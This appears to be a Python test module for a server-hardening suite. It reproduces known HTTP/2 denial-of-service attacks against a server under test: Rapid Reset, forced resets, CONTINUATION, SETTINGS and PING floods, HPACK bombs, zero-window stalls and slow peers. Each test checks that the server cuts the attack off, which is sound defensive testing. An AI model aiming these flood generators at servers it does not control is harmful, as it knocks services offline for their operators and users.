"""Known attacks on servers of HTTP/2, and peers that go silent.

Order: floods of frames; blocks; windows; silence.

Invariant: each attack has an end of its own, far above what any client needs, and fails if the server has gone along with it
until then; the run also looks after the memory of the server and that others are answered meanwhile.
"""

from cases import case, on_connection
from peer import *  # noqa: F403

CALM = ("ENHANCE_YOUR_CALM", "PROTOCOL_ERROR", "NO_ERROR")
BATCH = 200


def flooded(peer, piece, batches, *codes):
    """Sends pieces until the server ends the connection, and looks why it did.

    What the server says is read only then, as an attacker would not read it at all; all that it says is small enough for the
    buffers of sockets, or the server has stopped to read and must end the connection for that.
    """
    for number in range(batches):
        peer.socket.settimeout(HANG_SECONDS)
        try:
            peer.socket.sendall(piece(number))
        except OSError:
            break
        if not peer.alive():
            break
    else:
        raise Wrong(f"{batches} batches, and the server takes more")
    peer.connection_error(*(codes or CALM), or_close=True)


def numbers(batch, count=BATCH):
    return [1 + 2 * (batch * count + index) for index in range(count)]


@on_connection("CVE-2023-44487", "streams that are opened and reset at once")
def _(peer):
    flooded(peer, lambda n: b"".join(headers(stream, request(BIG)) + reset(stream) for stream in numbers(n)), 200)


@on_connection("CVE-2025-8671", "streams that the server is made to reset, by WINDOW_UPDATE of 0")
def _(peer):
    flooded(peer, lambda n: b"".join(headers(stream, request(BIG)) + window_update(stream, 0) for stream in numbers(n)), 200)


@on_connection("CVE-2025-8671", "streams that the server is made to reset, by malformed requests")
def _(peer):
    flooded(peer, lambda n: b"".join(headers(stream, request("/", ("X", "1"))) for stream in numbers(n)), 200)


@on_connection("CVE-2025-8671", "streams that the server is made to reset, by too large a window")
def _(peer):
    flooded(peer, lambda n: b"".join(headers(stream, request(BIG)) + window_update(stream, WINDOW_MAX) for stream in numbers(n)), 200)


@on_connection("CVE-2023-44487", "streams above the bound, again and again", with_settings=[(INITIAL_WINDOW_SIZE, 0)])
def _(peer):
    flooded(peer, lambda n: b"".join(headers(stream, request(BIG)) for stream in numbers(n)), 300)


@on_connection("CVE-2024-27316", "CONTINUATION without an end")
def _(peer):
    piece = block(("x-a", "v" * 16000))
    peer.send(headers(1, request(), END_STREAM))
    flooded(peer, lambda n: frame(CONTINUATION, 0, 1, piece) * 10, 400, *CALM, "COMPRESSION_ERROR")


@on_connection("CVE-2024-27316", "CONTINUATION without content and without an end")
def _(peer):
    peer.send(headers(1, request(), END_STREAM))
    flooded(peer, lambda n: frame(CONTINUATION, 0, 1) * 1000, 200, *CALM)


@on_connection("CVE-2024-27316", "CONTINUATION of a byte each without an end")
def _(peer):
    peer.send(headers(1, request(), END_STREAM))
    piece = b"".join(frame(CONTINUATION, 0, 1, b"\x88") for _ in range(1000))
    flooded(peer, lambda n: piece, 200, *CALM, "COMPRESSION_ERROR")


@on_connection("CVE-2019-9515", "a flood of SETTINGS")
def _(peer):
    flooded(peer, lambda n: settings() * 1000, 300)


@on_connection("CVE-2019-9515", "a flood of full SETTINGS")
def _(peer):
    flooded(peer, lambda n: settings(*[(INITIAL_WINDOW_SIZE, 1000 + n) for n in range(2000)]) * 10, 300)


@on_connection("CVE-2019-9512", "a flood of PING")
def _(peer):
    flooded(peer, lambda n: frame(PING, 0, 0, bytes(8)) * 1000, 300)


@on_connection("CVE-2019-9518", "DATA without content and without an end")
def _(peer):
    peer.send(headers(1, request("/", method="POST"), END_HEADERS))
    flooded(peer, lambda n: frame(DATA, 0, 1) * 1000, 300, *CALM, "STREAM_CLOSED")


@on_connection("CVE-2019-9518", "DATA of padding alone")
def _(peer):
    peer.send(headers(1, request("/", method="POST"), END_HEADERS))
    flooded(peer, lambda n: frame(DATA, PADDED, 1, b"\x01\x00") * 1000, 300, *CALM, "STREAM_CLOSED", "FLOW_CONTROL_ERROR")


@on_connection("CVE-2019-9513", "a flood of PRIORITY")
def _(peer):
    flooded(peer, lambda n: b"".join(frame(PRIORITY, 0, stream, b"\0\0\0\0\1") for stream in numbers(n, 1000)), 300)


@on_connection("9218 7.1", "a flood of PRIORITY_UPDATE for a stream that is not there")
def _(peer):
    flooded(peer, lambda n: frame(PRIORITY_UPDATE, 0, 0, b"\0\0\0\1u=1") * 1000, 300)


@on_connection("CVE-2019-9511", "a flood of WINDOW_UPDATE by 1")
def _(peer):
    """Each is good, and what it costs is small: the server may bear it, and must answer then."""
    peer.send(headers(1, request(BIG)))
    for _ in range(100):
        if not peer.send(window_update(0, 1) * 1000):
            return
    try:
        peer.send(frame(PING, 0, 0, b"flooded?"), settings())
        peer.until(lambda f: f.kind == PING and f.payload == b"flooded?", "an answer")
    except Wrong:
        if not peer.ended:
            raise


@on_connection("CVE-2019-9511", "an answer that is taken byte by byte", with_settings=[(INITIAL_WINDOW_SIZE, 1)])
def _(peer):
    """As many frames of a byte as bytes are asked for; others are not held by it."""
    peer.send(headers(1, request(BIG)))
    for _ in range(300):
        if not peer.send(window_update(1, 1)):
            return
    peer.send(headers(3, request("/absent", method="HEAD")))
    if peer.status(3) != "404":
        raise Wrong("not answered")


@on_connection("5.5", "a flood of frames of an unknown kind")
def _(peer):
    """They cost what reading them costs; a connection must not be all that its worker does."""
    for _ in range(100):
        if not peer.send(frame(0xEE, 0, 0) * 1000):
            return
    peer.send(frame(PING, 0, 0, b"flooded?"))
    try:
        peer.until(lambda f: f.kind == PING, "an answer")
    except Wrong:
        if not peer.ended:
            raise


# Blocks.


@on_connection("HPACK bomb", "a block of few bytes that means many")
def _(peer):
    peer.send(headers(1, block(*request()) + literal("x-bomb", "v" * 4000, INCREMENTAL)))
    peer.status(1)
    peer.send(headers(3, block(*request()) + b"\xbe" * 16000))
    try:
        status = peer.status(3)
    except Wrong as why:
        if not peer.ended and "RST_STREAM" not in str(why) and "GOAWAY" not in str(why):
            raise
        return
    if status != "431":
        raise Wrong(f"64 MB of fields are answered with {status}")


@on_connection("HPACK bomb", "the same again and again, which costs no more than it says")
def _(peer):
    """As many requests that are refused: 20 of them are 1.3 GB of fields."""
    peer.send(headers(1, block(*request()) + literal("x-bomb", "v" * 4000, INCREMENTAL)))
    peer.status(1)
    for number in range(20):
        if not peer.send(headers(3 + 2 * number, block(*request()) + b"\xbe" * 16000)):
            return
    try:
        for number in range(20):
            if (status := peer.status(3 + 2 * number)) != "431":
                raise Wrong(f"status {status}")
    except Wrong:
        if not peer.ended:
            raise


@on_connection("CVE-2019-9516", "fields without a name")
def _(peer):
    peer.send(headers(1, block(*request()) + b"\x00\x00\x00" * 5000))
    peer.malformed(1, lenient=True)


@on_connection("CVE-2016-1546", "cookies of a byte each")
def _(peer):
    peer.send(headers(1, block(*request()) + literal("cookie", "a") * 1000))
    status = peer.status(1)
    if status not in ("200", "431", "400"):
        raise Wrong(f"status {status}")


# Windows.


@on_connection("zero window", "a stream whose window stays at 0 is not waited for without an end", with_settings=[(INITIAL_WINDOW_SIZE, 0)])
def _(peer):
    peer.send(headers(1, request(BIG)))
    got = peer.until(lambda f: f.kind in (RST_STREAM, GOAWAY), "an end of the stream", STALL_SECONDS)
    if got.kind == RST_STREAM and got.stream != 1:
        raise Wrong(peer.tell(got))


@on_connection("zero window", "a stream of a stalled client is ended though the client pings", with_settings=[(INITIAL_WINDOW_SIZE, 0)])
def _(peer):
    peer.send(headers(1, request(BIG)))
    deadline = time.monotonic() + STALL_SECONDS
    while time.monotonic() < deadline:
        peer.send(frame(PING, 0, 0, bytes(8)))
        try:
            got = peer.next(0.5)
        except TimeoutError:
            continue
        if got is None or got.kind in (RST_STREAM, GOAWAY):
            return
        if got.kind == PING:
            time.sleep(0.5)
    raise Wrong("it is waited for")


@on_connection("zero window", "a connection whose window stays at 0 is ended", with_settings=[(INITIAL_WINDOW_SIZE, WINDOW_MAX)])
def _(peer):
    peer.send(b"".join(headers(stream, request(BIG)) for stream in (1, 3, 5)))
    ended = set()
    while ended != {1, 3, 5}:
        try:
            got = peer.next(STALL_SECONDS)
        except TimeoutError:
            raise Wrong("it is waited for") from None
        if got is None or got.kind == GOAWAY:
            return
        if got.kind == RST_STREAM:
            ended.add(got.stream)


@on_connection("zero window", "a stalled stream does not end with the connection of others", with_settings=[(INITIAL_WINDOW_SIZE, 0)])
def _(peer):
    peer.send(headers(1, request(BIG)))
    peer.until(lambda f: f.kind == RST_STREAM and f.stream == 1, "an end of the stream", STALL_SECONDS)
    peer.send(settings((INITIAL_WINDOW_SIZE, 65535)))
    peer.is_well(3)


@case("zero window", "a client that reads nothing is ended")
def _(place):
    with Peer(place, with_settings=[(INITIAL_WINDOW_SIZE, WINDOW_MAX)]) as peer:
        peer.send(window_update(0, WINDOW_MAX - 65535), b"".join(headers(1 + 2 * n, request(BIG)) for n in range(50)))
        time.sleep(STALL_SECONDS)
        # What was under way comes, and then the end.
        deadline, came = time.monotonic() + HANG_SECONDS, 0
        try:
            while peer.fill(deadline):
                came += len(peer.received)
                peer.received = b""
        except TimeoutError:
            raise Wrong("it is waited for") from None
        if came >= 50 * BIG_BYTES:
            raise Wrong("all of it came: it was waited for")


# Silence.


def silent(place, pieces, greet=False):
    with Peer(place, greet=greet) as peer:
        peer.send(pieces)
        try:
            peer.end(STALL_SECONDS)
        except Wrong:
            raise Wrong("it is waited for") from None


for _title, _piece, _greet in [
    ("half a preface", PREFACE[:12], False),
    ("a preface", PREFACE, False),
    ("a preface and half of SETTINGS", PREFACE + settings()[:5], False),
    ("half of a frame's head", frame(PING, 0, 0, bytes(8))[:5], True),
    ("half of a frame", headers(1, request())[:15], True),
    ("HEADERS without END_HEADERS", headers(1, request(), END_STREAM), True),
    ("a request without its content", headers(1, request("/", ("content-length", "5"), method="POST"), END_HEADERS), True),
    ("nothing", b"", True),
]:

    @case("slow peers", f"{_title}, and then silence, is not waited for without an end")
    def _(place, piece=_piece, greet=_greet):
        silent(place, piece, greet)


@case("slow peers", "a preface that comes byte by byte has a deadline")
def _(place):
    with Peer(place, greet=False) as peer:
        deadline = time.monotonic() + STALL_SECONDS
        for byte in (PREFACE + settings()) * 10:
            if time.monotonic() > deadline or not peer.send(bytes([byte])) or not peer.alive():
                break
            time.sleep(0.4)
        if peer.alive():
            raise Wrong("it is waited for")


@case("slow peers", "a block that comes byte by byte has a deadline")
def _(place):
    with Peer(place) as peer:
        deadline = time.monotonic() + STALL_SECONDS
        for byte in headers(1, request("/", ("x-a", "v" * 1000))):
            if time.monotonic() > deadline or not peer.send(bytes([byte])) or not peer.alive():
                break
            time.sleep(0.4)
        if peer.alive():
            raise Wrong("it is waited for")


@case("slow peers", "a block of a CONTINUATION now and then has a deadline")
def _(place):
    with Peer(place) as peer:
        peer.send(headers(1, request(), END_STREAM))
        deadline = time.monotonic() + STALL_SECONDS
        while time.monotonic() < deadline and peer.alive():
            peer.send(frame(CONTINUATION, 0, 1, block(("x-a", "1"))))
            time.sleep(0.4)
        if peer.alive():
            raise Wrong("it is waited for")
